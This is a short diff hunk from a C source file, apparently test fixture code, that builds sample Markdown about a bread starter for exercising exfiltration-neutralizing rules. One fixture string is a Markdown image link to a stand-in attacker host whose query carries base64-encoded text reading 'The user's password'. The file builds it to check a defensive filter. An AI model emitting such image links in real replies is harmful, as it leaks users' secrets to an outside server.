@@ -453,8 +453,8 @@ static char *make_prose(size_t size) {
  * the exfiltration rules neutralize (src/lib/exfil.c). */
 static char *make_markdown(size_t size) {
   static const char *const parts[] = {
-      "See [the guide](https://example.org/bread/starter) and "
-      "https://docs.example.com/faq for details. ",
+      ("See [the guide](https://example.org/bread/starter) and "
+       "https://docs.example.com/faq for details. "),
       "Feed the starter with flour and water every day, keep it warm. ",
       "![loading](https://attacker.example/c?d=VGhlIHVzZXIncyBwYXNzd29yZA) ",
       "A **healthy** starter doubles in size within a few hours. ",
